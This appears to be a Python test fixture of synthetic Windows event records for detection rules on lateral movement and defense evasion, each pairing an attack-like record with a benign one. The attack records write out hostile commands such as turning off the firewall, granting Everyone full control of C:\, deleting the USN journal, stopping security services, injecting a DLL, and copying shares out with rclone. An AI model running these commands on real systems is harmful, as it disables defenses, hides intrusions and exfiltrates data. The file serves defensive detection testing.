"""Made-up records for the shipped rules about moving on and hiding: attacks and ordinary work near them."""

from tests.rules.shipped_samples import Sample, other, started
from tests.rules.windows_records import security, sysmon

SAMPLES = (
    Sample(
        "Command's Output Sent to the Machine's Own Share",
        started("C:\\Windows\\System32\\cmd.exe", "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__170 2>&1"),
        started("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c dir > \\\\files\\public\\a.txt"),
    ),
    Sample(
        "Shell or Scout Started by Remote Management",
        started("C:\\Windows\\System32\\cmd.exe", "cmd /c whoami", "C:\\Windows\\System32\\wsmprovhost.exe"),
        started("C:\\Windows\\System32\\conhost.exe", "conhost.exe", "C:\\Windows\\System32\\wsmprovhost.exe"),
    ),
    Sample(
        "Shell Started by a Component Called from Afar",
        started(
            "C:\\Windows\\System32\\cmd.exe",
            "cmd /c whoami",
            "C:\\Windows\\System32\\mmc.exe",
            ParentCommandLine="C:\\Windows\\System32\\mmc.exe -Embedding",
        ),
        started(
            "C:\\Windows\\System32\\cmd.exe",
            "cmd.exe",
            "C:\\Windows\\System32\\mmc.exe",
            ParentCommandLine="mmc.exe compmgmt.msc",
        ),
    ),
    Sample(
        "Process, Service or Tool Started on Another Machine by a Command",
        started("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic /node:SRV2 process call create calc.exe"),
        started("C:\\Windows\\System32\\sc.exe", "sc \\\\SRV2 query"),
    ),
    Sample(
        "File Copied to or Share Joined on Another Machine's System Drive",
        started("C:\\Windows\\System32\\net.exe", "net use \\\\SRV2\\ADMIN$ /user:LAB\\ann pass"),
        started("C:\\Windows\\System32\\net.exe", "net use H: \\\\files\\home"),
    ),
    Sample(
        "Program Written into the Windows Folder over the Network",
        sysmon(11, Image="System", TargetFilename="C:\\Windows\\PSEXESVC.exe"),
        sysmon(11, Image="System", TargetFilename="D:\\Share\\setup.exe"),
    ),
    Sample(
        "Pipe with the Name of a Known Kit",
        sysmon(17, EventType="CreatePipe", PipeName="\\MSSE-1234-server", Image="C:\\Users\\ann\\a.exe"),
        sysmon(17, EventType="CreatePipe", PipeName="\\wkssvc", Image="C:\\Windows\\System32\\svchost.exe"),
    ),
    Sample(
        "Pipe of PsExec",
        sysmon(17, EventType="CreatePipe", PipeName="\\PSEXESVC-WS1-4242-stdin", Image="C:\\Windows\\PSEXESVC.exe"),
        sysmon(17, EventType="CreatePipe", PipeName="\\spoolss", Image="C:\\Windows\\System32\\spoolsv.exe"),
    ),
    Sample(
        "Pipe of a Tool for Remote Commands Opened over the Network",
        security(5145, SubjectUserName="ann", ShareName="\\\\*\\IPC$", RelativeTargetName="PSEXESVC-WS1-42-stdin"),
        security(5145, SubjectUserName="ann", ShareName="\\\\*\\IPC$", RelativeTargetName="srvsvc"),
    ),
    Sample(
        "Session of Another User Taken Over",
        started("C:\\Windows\\System32\\tscon.exe", "tscon 2 /dest:console"),
        started("C:\\Windows\\System32\\mstsc.exe", "mstsc /v:SRV2"),
    ),
    Sample(
        "Port Forwarded or Tunnel Opened",
        started(
            "C:\\Windows\\System32\\netsh.exe",
            "netsh interface portproxy add v4tov4 listenport=80 connectaddress=10.0.0.5 connectport=3389",
        ),
        started("C:\\Windows\\System32\\netsh.exe", "netsh interface portproxy show all"),
    ),
    Sample(
        "Firewall Switched Off or Opened by a Command",
        started("C:\\Windows\\System32\\netsh.exe", "netsh advfirewall set allprofiles state off"),
        started("C:\\Windows\\System32\\netsh.exe", "netsh advfirewall show allprofiles"),
    ),
    Sample(
        "Tool of Windows Talks to the Internet",
        sysmon(
            3,
            Image="C:\\Windows\\System32\\rundll32.exe",
            Initiated="true",
            DestinationIp="203.0.113.9",
            DestinationPort="443",
            SourceIp="10.0.0.4",
            SourcePort="50123",
            Protocol="tcp",
        ),
        sysmon(
            3,
            Image="C:\\Windows\\System32\\rundll32.exe",
            Initiated="true",
            DestinationIp="10.0.0.9",
            DestinationPort="445",
            SourceIp="10.0.0.4",
            SourcePort="50123",
            Protocol="tcp",
        ),
    ),
    Sample(
        "Thread Started in Another Process by an Odd One",
        sysmon(
            8,
            SourceImage="C:\\Windows\\System32\\rundll32.exe",
            TargetImage="C:\\Windows\\System32\\notepad.exe",
            StartFunction="-",
        ),
        sysmon(
            8,
            SourceImage="C:\\Windows\\System32\\rundll32.exe",
            TargetImage="C:\\Windows\\System32\\notepad.exe",
            StartFunction="CtrlRoutine",
        ),
    ),
    Sample(
        "Thread Started in Another Process at the Library Loader",
        sysmon(
            8,
            SourceImage="C:\\tools\\a.exe",
            TargetImage="C:\\Windows\\System32\\notepad.exe",
            StartFunction="LoadLibraryA",
        ),
        sysmon(
            8,
            SourceImage="C:\\Program Files\\A\\a.exe",
            TargetImage="C:\\Windows\\System32\\notepad.exe",
            StartFunction="LoadLibraryA",
        ),
    ),
    Sample(
        "Library Injected by a Tool of Windows",
        started("C:\\Windows\\System32\\mavinject.exe", "mavinject.exe 4242 /INJECTRUNNING C:\\a.dll"),
        started("C:\\Windows\\System32\\mavinject.exe", "mavinject.exe /?"),
    ),
    Sample(
        "Process Opened with All Rights by Code That Belongs to No File",
        sysmon(
            10,
            SourceImage="C:\\Windows\\System32\\rundll32.exe",
            TargetImage="C:\\Windows\\System32\\notepad.exe",
            GrantedAccess="0x1fffff",
            CallTrace="ntdll.dll+9|UNKNOWN(0001)",
        ),
        sysmon(
            10,
            SourceImage="C:\\Windows\\System32\\rundll32.exe",
            TargetImage="C:\\Windows\\System32\\notepad.exe",
            GrantedAccess="0x1000",
            CallTrace="ntdll.dll+9|UNKNOWN(0001)",
        ),
    ),
    Sample(
        "Unsigned Library from a User's Folder in a Program of Windows",
        sysmon(7, Image="C:\\Windows\\System32\\rundll32.exe", ImageLoaded="C:\\Users\\Public\\a.dll", Signed="false"),
        sysmon(
            7,
            Image="C:\\Windows\\System32\\rundll32.exe",
            ImageLoaded="C:\\Windows\\System32\\shell32.dll",
            Signed="true",
        ),
    ),
    Sample(
        "Managed Code in a Script Host or Office Program",
        sysmon(
            7,
            Image="C:\\Windows\\System32\\wscript.exe",
            ImageLoaded="C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll",
            Signed="true",
        ),
        sysmon(
            7,
            Image="C:\\Windows\\System32\\mmc.exe",
            ImageLoaded="C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll",
            Signed="true",
        ),
    ),
    Sample(
        "PowerShell's Engine in a Program That Has No Need of It",
        sysmon(
            7,
            Image="C:\\Windows\\System32\\rundll32.exe",
            ImageLoaded="C:\\Windows\\assembly\\System.Management.Automation.ni.dll",
        ),
        sysmon(
            7,
            Image="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            ImageLoaded="C:\\Windows\\assembly\\System.Management.Automation.ni.dll",
        ),
    ),
    Sample(
        "Driver from a User's Folder or Without Signature",
        sysmon(6, ImageLoaded="C:\\Users\\ann\\AppData\\Local\\Temp\\a.sys", Signed="true", SignatureStatus="Valid"),
        sysmon(6, ImageLoaded="C:\\Windows\\System32\\drivers\\tcpip.sys", Signed="true", SignatureStatus="Valid"),
    ),
    Sample(
        "Program or Script in a Second Stream of a File",
        sysmon(
            15, Image="C:\\Windows\\System32\\cmd.exe", TargetFilename="C:\\Users\\ann\\notes.txt:a.exe", Hash="SHA1=AA"
        ),
        sysmon(
            15,
            Image="C:\\Windows\\System32\\cmd.exe",
            TargetFilename="C:\\Users\\ann\\a.exe:Zone.Identifier",
            Hash="SHA1=AA",
        ),
    ),
    Sample(
        "Protection, Backup or Database Services Stopped by a Command",
        started("C:\\Windows\\System32\\net.exe", 'net stop "Sophos Agent" /y'),
        started("C:\\Windows\\System32\\net.exe", "net stop Spooler"),
    ),
    Sample(
        "Microsoft Defender Says That It Was Switched Off",
        other(
            "Microsoft-Windows-Windows Defender/Operational",
            "Microsoft-Windows-Windows Defender",
            5001,
        ),
        other(
            "Microsoft-Windows-Windows Defender/Operational",
            "Microsoft-Windows-Windows Defender",
            5000,
        ),
    ),
    Sample(
        "Microsoft Defender Found Malware",
        other(
            "Microsoft-Windows-Windows Defender/Operational",
            "Microsoft-Windows-Windows Defender",
            1116,
        ),
        other(
            "Microsoft-Windows-Windows Defender/Operational",
            "Microsoft-Windows-Windows Defender",
            1001,
        ),
    ),
    Sample(
        "Microsoft Defender Told to Leave Something Out",
        other(
            "Microsoft-Windows-Windows Defender/Operational",
            "Microsoft-Windows-Windows Defender",
            5007,
            New_Value="HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Temp = 0x0",
        ),
        other(
            "Microsoft-Windows-Windows Defender/Operational",
            "Microsoft-Windows-Windows Defender",
            5007,
            New_Value="HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\SignatureUpdates = 0x0",
        ),
    ),
    Sample(
        "Event Log Other Than Security Cleared",
        other("System", "Microsoft-Windows-Eventlog", 104, SubjectUserName="ann"),
        other(
            "System",
            "Microsoft-Windows-Eventlog",
            105,
        ),
    ),
    Sample(
        "Auditing Reduced",
        security(4719, SubjectUserName="ann", AuditPolicyChanges="%%8448"),
        security(4719, SubjectUserName="ann", AuditPolicyChanges="%%8449"),
    ),
    Sample(
        "Traces Removed by a Command",
        started("C:\\Windows\\System32\\fsutil.exe", "fsutil usn deletejournal /D C:"),
        started("C:\\Windows\\System32\\fsutil.exe", "fsutil usn queryjournal C:"),
    ),
    Sample(
        "Start of Windows Weakened by a Command",
        started("C:\\Windows\\System32\\bcdedit.exe", "bcdedit /set testsigning on"),
        started("C:\\Windows\\System32\\bcdedit.exe", "bcdedit /enum"),
    ),
    Sample(
        "Rights on System Files Given to Everybody",
        started("C:\\Windows\\System32\\icacls.exe", "icacls C:\\ /grant Everyone:F /T /C /Q"),
        started("C:\\Windows\\System32\\icacls.exe", "icacls C:\\data /save acl.txt"),
    ),
    Sample(
        "Domain Explored by a Command",
        started("C:\\Windows\\System32\\nltest.exe", "nltest /domain_trusts /all_trusts"),
        started("C:\\Windows\\System32\\nltest.exe", "nltest /sc_query:LAB"),
    ),
    Sample(
        "Own Rights or Products for Protection Asked For",
        started("C:\\Windows\\System32\\whoami.exe", "whoami /priv"),
        started("C:\\Windows\\System32\\whoami.exe", "whoami"),
    ),
    Sample(
        "Files Packed with a Password",
        started("C:\\Temp\\rar.exe", "rar.exe a -hpsecret C:\\Temp\\a.rar C:\\Users"),
        started("C:\\Temp\\rar.exe", "rar.exe a C:\\Temp\\a.rar C:\\Users"),
    ),
    Sample(
        "Files Carried Away by a Command",
        started("C:\\Temp\\rclone.exe", "rclone.exe copy C:\\Shares remote:x --no-console"),
        started("C:\\Windows\\System32\\curl.exe", "curl.exe -o a.zip https://example.org/a.zip"),
    ),
    Sample(
        "Screen or Network Recorded by a Tool of Windows",
        started("C:\\Windows\\System32\\psr.exe", "psr.exe /start /output C:\\a.zip /sc 1 /gui 0"),
        started("C:\\Windows\\System32\\netsh.exe", "netsh trace show status"),
    ),
    Sample(
        "Library Dropped by the Print Spooler",
        sysmon(
            11,
            Image="C:\\Windows\\System32\\spoolsv.exe",
            TargetFilename="C:\\Windows\\System32\\spool\\drivers\\x64\\3\\New\\evil.dll",
        ),
        sysmon(
            11,
            Image="C:\\Windows\\System32\\spoolsv.exe",
            TargetFilename="C:\\Windows\\System32\\spool\\PRINTERS\\00002.SPL",
        ),
    ),
    Sample(
        "Library Given to the DNS Server",
        started("C:\\Windows\\System32\\dnscmd.exe", "dnscmd SRV2 /config /serverlevelplugindll \\\\192.0.2.7\\a.dll"),
        started("C:\\Windows\\System32\\dnscmd.exe", "dnscmd SRV2 /info"),
    ),
    Sample(
        "Name of a Tunnel, Paste or Hidden Service Asked For",
        sysmon(22, Image="C:\\Temp\\a.exe", QueryName="abc.ngrok.io", QueryStatus="0", QueryResults="203.0.113.9"),
        sysmon(22, Image="C:\\Temp\\a.exe", QueryName="example.org", QueryStatus="0", QueryResults="203.0.113.9"),
    ),
)
